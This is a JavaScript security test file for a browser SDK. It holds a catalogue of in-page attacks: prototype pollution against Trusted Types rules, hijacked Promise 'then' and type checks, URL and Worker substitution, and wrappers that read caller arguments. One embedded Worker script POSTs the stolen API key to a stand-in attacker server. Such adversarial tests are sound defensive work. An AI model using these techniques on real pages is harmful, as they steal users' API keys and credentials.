/** Attackers that act: each is a script that runs after the SDK was loaded, and before the first client. */
const { apply, getOwnPropertyDescriptor } = Reflect;
const setHref = getOwnPropertyDescriptor(URL.prototype, "href").set;
const { then } = Promise.prototype;

/** Members that browser functions look for in the rules that a Trusted Types policy is made from. */
const RULES = ["createHTML", "createScript", "createScriptURL"];

/** Each takes what the attacker has: `script`, the address of a Worker of his; `stranger`, his server; `module`, his core. */
const ATTACKS = {
  /** Dictionaries are read member by member, inherited ones too: a getter is handed the object. */
  rules({ script }) {
    for (const name of RULES) {
      Object.defineProperty(Object.prototype, name, {
        configurable: true,
        get() {
          if (Object.hasOwn(this, "createScriptURL")) this.createScriptURL = () => script;
          return undefined;
        },
      });
    }
  },

  /** A type check says yes, and `await` asks a `then` that is not the platform's. */
  promises({ module }) {
    const mine = new WebAssembly.Module(new Uint8Array(module));
    Object.defineProperty(Response, Symbol.hasInstance, { value: () => true });
    Promise.prototype.constructor = {};
    Promise.prototype.then = function (onFulfilled, onRejected) {
      return apply(then, this, [onFulfilled, onFulfilled ? () => onFulfilled(mine) : onRejected]);
    };
  },

  /** Every promise of an address becomes another address. */
  addresses({ stranger }) {
    Promise.prototype.constructor = {};
    Promise.prototype.then = function (onFulfilled, onRejected) {
      const bent = (value) => onFulfilled(typeof value === "string" && value.startsWith("http") ? stranger : value);
      return apply(then, this, [onFulfilled ? bent : onFulfilled, onRejected]);
    };
  },

  /** A type check changes what it is asked about. */
  typeChecks({ stranger }) {
    const checks = [URL, Object, Response, String];
    for (const check of checks) {
      Object.defineProperty(check, Symbol.hasInstance, {
        configurable: true,
        value(object) {
          try {
            apply(setHref, object, [stranger]);
          } catch {
            // No URL.
          }
          return true;
        },
      });
    }
    // What runs this test asks them too.
    return () => checks.forEach((check) => delete check[Symbol.hasInstance]);
  },

  /** A property of the URL's own, and of its class. */
  ownProperties({ stranger, options }) {
    for (const object of [URL.prototype, options.baseUrl]) {
      for (const name of ["href", "origin", "toString", "toJSON", "valueOf", Symbol.toPrimitive]) {
        const get = () => (name === "href" || name === "origin" ? stranger : () => stranger);
        Object.defineProperty(object, name, { configurable: true, get });
      }
    }
  },

  /** A policy that forbids Workers, which holds at once. */
  policy() {
    const meta = document.createElement("meta");
    meta.httpEquiv = "Content-Security-Policy";
    meta.content = "worker-src 'none'";
    document.head.append(meta);
  },

  /** Another object stands where the global one was, and has another location: relative addresses count from there. */
  globals({ stranger }) {
    globalThis.globalThis = { document: 1, location: { href: stranger } };
  },

  /** The same, with a location that makes a script of his of every relative address. */
  workerAddress({ stranger }) {
    const script = `onmessage = ({ data }) => {
      if (data.type === "connect") data.port.postMessage({ type: "booted", version: data.version });
      else if (data.key) {
        const headers = { "x-ansdev-key": new TextDecoder().decode(data.key) };
        fetch("${stranger}", { method: "POST", headers });
      }
    }//`;
    globalThis.globalThis = { document: 1, location: { href: `data://,${encodeURIComponent(script)}` } };
  },

  /** Functions of the platform are called inside the page's own call, and read that call's arguments. */
  callers({ loot, calls }) {
    const look = () => {
      for (const call of calls) if (call.arguments?.[0]) loot.push(`a caller's argument: ${call.arguments[0]}`);
    };
    const wrap = (holder, name) => {
      const own = holder[name];
      holder[name] = function (...args) {
        look();
        return apply(own, this, args);
      };
    };
    for (const name of ["setTimeout", "clearTimeout", "queueMicrotask"]) wrap(globalThis, name);
    for (const { prototype } of [Set, Map, WeakMap])
      for (const name of ["add", "set", "get", "has"]) {
        if (prototype[name]) wrap(prototype, name);
      }
    wrap(Promise.prototype, "then");
    wrap(performance, "now");
  },

  /** The same, by properties that the SDK asks and does not call. */
  accessors({ loot, calls }) {
    const look = () => {
      for (const call of calls) if (call.arguments?.[0]) loot.push(`a caller's argument: ${call.arguments[0]}`);
    };
    const undo = [];
    const watch = (holder, name) => {
      const own = Object.getOwnPropertyDescriptor(holder, name);
      const get = function () {
        look();
        return own && (own.get ? apply(own.get, this, []) : own.value);
      };
      Object.defineProperty(holder, name, { configurable: true, get, set() {} });
      undo.push(() => (own ? Object.defineProperty(holder, name, own) : Reflect.deleteProperty(holder, name)));
    };
    for (const name of ["then", "constructor"]) watch(Promise.prototype, name);
    for (const name of ["navigator", "BroadcastChannel", "Promise", "URL", "Error", "performance"])
      watch(globalThis, name);
    for (const name of ["status", "cause", "then", "mistake"]) watch(Object.prototype, name);
    return () => undo.forEach((put) => put());
  },

  /** The page's address becomes one below which the attacker has put a script (tests/browser/support/site.ts). */
  history() {
    history.pushState(null, "", "/attack/uploads/page.html");
    return () => history.back();
  },

  /** While the browser shows an event, `window.event` shows its target: here, the Worker that a policy has forbidden. */
  events({ loot }) {
    const look = () => {
      if (globalThis.event?.target instanceof Worker) loot.push("the Worker was shown");
    };
    for (const [holder, name] of [
      [globalThis, "clearTimeout"],
      [URL, "revokeObjectURL"],
      [Set.prototype, "has"],
      [Map.prototype, "get"],
      [Promise.prototype, "then"],
      [Array.prototype, "includes"],
      [String.prototype, "startsWith"],
    ]) {
      const own = holder[name];
      holder[name] = function (...args) {
        look();
        return apply(own, this, args);
      };
    }
    ATTACKS.policy();
  },

  /** The class that starts Workers starts one of his. */
  workers({ script }) {
    const { Worker } = globalThis;
    globalThis.Worker = class extends Worker {
      constructor() {
        super(script);
      }
    };
  },
};

/**
 * Lets a script act, makes a client and a token, and says what came of it.
 *
 * @param means - `stranger`, `module`; see above.
 */
export async function act(name, entry, { apiKey, baseUrl, ...more }, means) {
  const { createClient } = await import(entry);
  const loot = [];
  const channel = new BroadcastChannel("attacker");
  channel.onmessage = ({ data }) => loot.push(data.what);
  // A relative address counts from the page's own.
  const options = { apiKey, baseUrl: baseUrl.startsWith("/") ? baseUrl : new URL(baseUrl), ...more };
  // Sloppy functions, as in a classic script: what they are called with can be read while they run.
  const open = new Function("key", "create", "options", "return create(Object.assign(options, { apiKey: key }))");
  const script = `${location.origin}/attack/attackers-worker.js`;
  // Whoever has the client in the page can take the key by what it sends.
  const { fetch } = globalThis;
  globalThis.fetch = (input, init) => {
    if ([...new Headers(init?.headers ?? input.headers)].some(([, value]) => value === apiKey)) {
      loot.push("the page sent the key");
    }
    return apply(fetch, globalThis, [input, init]);
  };
  const undo = ATTACKS[name]({ ...means, script, options, loot, calls: [open] });
  const outcome = await settled(open(apiKey, createClient, options));
  let isolation;
  if (outcome.value) {
    ({ isolation } = outcome.value);
    const session = await settled(outcome.value.openSession("vid_clear"));
    await settled(session.value?.getToken());
  }
  undo?.();
  channel.close();
  return { loot, isolation, code: outcome.error?.code };
}

const { setTimeout: later } = globalThis;

/** By the platform's own `then` and clock, whatever the attacker has put there. */
function settled(promise) {
  return new Promise((resolve) => {
    later(resolve, 4_000, { error: { code: "hangs" } });
    if (promise === undefined) resolve({});
    else
      apply(then, promise, [
        (value) => resolve({ value: typeof value === "object" ? value : {} }),
        (error) => resolve({ error }),
      ]);
  });
}
